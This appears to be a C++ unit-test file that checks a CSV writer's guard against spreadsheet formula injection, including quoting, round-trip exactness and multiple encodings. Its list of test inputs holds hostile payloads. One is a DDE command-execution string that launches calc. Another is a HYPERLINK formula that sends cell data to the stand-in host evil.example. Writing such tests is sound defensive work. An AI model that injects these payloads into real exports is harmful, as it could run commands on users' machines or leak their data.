// Issue 15 §8: formula injection in CSV. Every text cell Seika writes goes through one guard
// (core/io/csvformula.h, called by CsvWriter), and CsvReader undoes it, so a round trip is exact.
#include "core/io/csvformula.h"
#include "core/io/csvreader.h"
#include "core/io/csvwriter.h"

#include <QBuffer>

#include <gtest/gtest.h>

using namespace seika::core;
using namespace Qt::StringLiterals;

namespace {

QByteArray written(const QList<QStringList> &records, CsvEncoding encoding)
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(&buffer, encoding);
    for (const QStringList &r : records)
        writer.writeRecord(r);
    EXPECT_TRUE(writer.finish().has_value());
    return bytes;
}

QList<QStringList> readBack(QByteArray bytes)
{
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::ReadOnly);
    CsvReader reader(&buffer);
    EXPECT_TRUE(reader.open().has_value());
    QList<QStringList> records{reader.header()};
    for (;;) {
        auto next = reader.next();
        EXPECT_TRUE(next.has_value());
        if (!next || !*next)
            break;
        records << (*next)->fields;
    }
    return records;
}

/// Texts a spreadsheet would run, and texts that look like the guard itself.
const QStringList Hostile = {
    u"=cmd|' /C calc'!A0"_s,
    u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_s,
    u"+1+2"_s,
    u"-1+2"_s,
    u"@SUM(A1:A9)"_s,
    u"\t=1+1"_s,
    u"\r=1+1"_s,
    u"'=already quoted"_s,
    u"''=twice"_s,
    u"'-5"_s,
    u"'"_s,
    u"'abc"_s,
    u"-"_s,
    u"=町内会"_s,
};

} // namespace

TEST(SecurityCsvFormula, FormulaLikeTextGetsOneLeadingQuote)
{
    EXPECT_EQ(csvGuardFormula(u"=cmd|' /C calc'!A0"), u"'=cmd|' /C calc'!A0"_s);
    EXPECT_EQ(csvGuardFormula(u"+1"), u"'+1"_s);
    EXPECT_EQ(csvGuardFormula(u"-1+2"), u"'-1+2"_s);
    EXPECT_EQ(csvGuardFormula(u"@x"), u"'@x"_s);
    EXPECT_EQ(csvGuardFormula(u"\tx"), u"'\tx"_s);
    EXPECT_EQ(csvGuardFormula(u"\rx"), u"'\rx"_s);
    // The guard is escaped by doubling: a text that starts with the guard keeps it.
    EXPECT_EQ(csvGuardFormula(u"'=x"), u"''=x"_s);
    EXPECT_EQ(csvGuardFormula(u"''@x"), u"'''@x"_s);
    // Not formulas: plain text, a quote before other text, numbers (negative ones too).
    for (const QString &same : {u"abc"_s, u"'abc"_s, u"'"_s, u""_s, u"-5"_s, u"-1,234.5"_s, u"-12.5%"_s, u"0"_s,
                                u"2026-12-07"_s, u"a=b"_s})
        EXPECT_EQ(csvGuardFormula(same), same) << same.toStdString();
}

TEST(SecurityCsvFormula, ReaderDropsExactlyTheGuard)
{
    EXPECT_EQ(csvFormulaGuardLength(u"'=x"), 1);
    EXPECT_EQ(csvFormulaGuardLength(u"''=x"), 1);
    EXPECT_EQ(csvFormulaGuardLength(u"'-5"), 1);
    EXPECT_EQ(csvFormulaGuardLength(u"'abc"), 0);
    EXPECT_EQ(csvFormulaGuardLength(u"'"), 0);
    EXPECT_EQ(csvFormulaGuardLength(u"=x"), 0);
}

TEST(SecurityCsvFormula, WrittenCellsNeverStartAFormulaInAnyEncoding)
{
    for (const CsvEncoding encoding : {CsvEncoding::Utf8, CsvEncoding::Utf8Bom, CsvEncoding::Cp932}) {
        QList<QStringList> records{{u"id"_s, u"note"_s, u"count"_s}};
        for (const QString &h : Hostile)
            records << QStringList{u"1"_s, h, u"-42"_s};
        const QByteArray bytes = written(records, encoding);
        QByteArray text = bytes;
        if (text.startsWith("\xEF\xBB\xBF"))
            text.remove(0, 3);
        EXPECT_TRUE(text.contains(",'=cmd|' /C calc'!A0,-42\r\n")) << text.toStdString();
        EXPECT_TRUE(text.contains(",\"'\r=1+1\",-42\r\n")) << text.toStdString();
        EXPECT_TRUE(text.contains(",'''=twice,")) << text.toStdString();
        // No cell, quoted or not, starts with a formula character (the negative count stays a number).
        for (const QByteArray &line : text.split('\n')) {
            for (QByteArray cell : line.split(',')) {
                if (cell.startsWith('"'))
                    cell.remove(0, 1);
                if (cell == "-42" || cell == "-42\r" || cell.isEmpty())
                    continue;
                EXPECT_FALSE(QByteArray("=+-@\t").contains(cell.at(0))) << cell.toStdString();
            }
        }
    }
}

TEST(SecurityCsvFormula, RoundTripIsExact)
{
    QList<QStringList> records{{u"note"_s, u"count"_s}};
    for (const QString &h : Hostile)
        records << QStringList{h, u"-7"_s};
    for (const CsvEncoding encoding : {CsvEncoding::Utf8, CsvEncoding::Utf8Bom, CsvEncoding::Cp932})
        EXPECT_EQ(readBack(written(records, encoding)), records);
}

TEST(SecurityCsvFormula, PreEncodedFieldsAreGuardedToo)
{
    // encodedField() is how big exports write a text repeated on many rows (indicator names).
    for (const CsvEncoding encoding : {CsvEncoding::Utf8, CsvEncoding::Cp932}) {
        QByteArray bytes;
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::WriteOnly);
        CsvWriter writer(&buffer, encoding);
        const auto field = writer.encodedField(u"=1+1");
        ASSERT_TRUE(field.has_value());
        EXPECT_EQ(*field, QByteArray("'=1+1"));
        EXPECT_EQ(CsvWriter::quoted(u"@x,y"_s), u"\"'@x,y\""_s);
    }
}
